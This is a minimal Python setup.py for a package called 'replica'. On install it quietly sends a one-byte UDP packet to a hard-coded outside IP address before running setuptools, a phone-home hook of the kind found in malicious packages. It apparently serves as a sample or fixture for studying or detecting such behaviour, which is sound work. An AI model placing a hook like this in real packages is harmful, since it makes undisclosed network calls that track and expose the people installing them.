import socket

import setuptools

socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("45.33.32.156", 9999))
setuptools.setup(name="replica", version="1.0.0")
